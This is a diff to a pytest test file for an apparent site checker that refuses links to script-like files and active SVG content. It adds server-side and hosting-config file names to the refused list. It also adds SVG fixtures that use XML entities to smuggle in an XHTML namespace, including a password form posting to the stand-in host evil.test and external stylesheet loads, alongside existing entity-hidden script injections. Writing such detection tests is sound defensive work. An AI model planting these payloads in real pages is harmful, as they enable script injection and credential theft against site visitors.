@@ -11,7 +11,7 @@ PAGE = "# Title\n\n{}\n"
 WAYS = ["[a]({0})", "![a]({0})", '<a href="{0}">a</a>', '<img src="{0}" alt="a">', "[a](/{0})"]
 
 
-@pytest.mark.parametrize("name", ["a.js", "a.MJS", "a.html", "a.htm", "a.xhtml", "a.xht", "a.shtml", "a.xml", "a.svgz", "a.Rss"])
+@pytest.mark.parametrize("name", ["a.js", "a.MJS", "a.html", "a.htm", "a.xhtml", "a.xht", "a.shtml", "a.xml", "a.svgz", "a.Rss", "a.mathml", "a.owl", "a.php", "a.PHP8", "a.phtml", "a.asp", "a.aspx", "a.jsp", "a.cgi", "a.pl", "a.shtm", "_redirects", "d/_headers", "_routes.json", "web.config", "netlify.toml", "vercel.json", "staticwebapp.config.json", "CNAME", "Robots.txt", "d/CNAME"])
 def test_a_script_is_refused_with_its_place(site, name):
     folder = site(
         {
@@ -23,7 +23,7 @@ def test_a_script_is_refused_with_its_place(site, name):
     result = run("check", folder=folder)
     assert result.status == 1, result
     for number, way in enumerate(WAYS):
-        place = rf"content/index\.md:{3 + 2 * number}:.*`{'/' if '(/' in way else ''}{re.escape(name)}` is a script"
+        place = rf"content/index\.md:{3 + 2 * number}:.*`{'/' if '(/' in way else ''}{re.escape(name)}` cannot be linked"
         assert re.search(place, result.err), f"{way}\n{result.err}"
 
 
@@ -65,6 +65,9 @@ ACTIVE = {
     "entity of markup": svg("&a;", before='<!DOCTYPE svg [<!ENTITY a "<script>evil()</script>">]>'),
     "entity of references": svg("&a;", before='<!DOCTYPE svg [<!ENTITY a "&#60;script>evil()&#60;/script>">]>'),
     "entity in a link": svg('<a href="&a;script:evil()"/>', before='<!DOCTYPE svg [<!ENTITY a "java">]>'),
+    "entity of a namespace": svg('<h:form action="//evil.test/"><h:input type="password"/></h:form>', 'xmlns:h="&a;"', before='<!DOCTYPE svg [<!ENTITY a "http://www.w3.org/1999/xhtml">]>'),
+    "entities in a namespace": svg('<h:meta http-equiv="refresh" content="0"/>', 'xmlns:h="&a;&b;"', before='<!DOCTYPE svg [<!ENTITY a "http://www.w3.org/1999/xht"><!ENTITY b "ml">]>'),
+    "rest of a namespace": svg('<h:link rel="stylesheet" href="//evil.test/"/>', 'xmlns:h="http://www.w3.org/1999/xht&a;"', before='<!DOCTYPE svg [<!ENTITY a "ml">]>'),
     "attribute by default": svg("", before='<!DOCTYPE svg [<!ATTLIST svg onload CDATA "evil()">]>'),
     "transformation": svg("", before='<?xml-stylesheet type="text/xsl" href="x"?>'),
     "UTF-16": svg("<script>evil()</script>").encode("utf-16"),
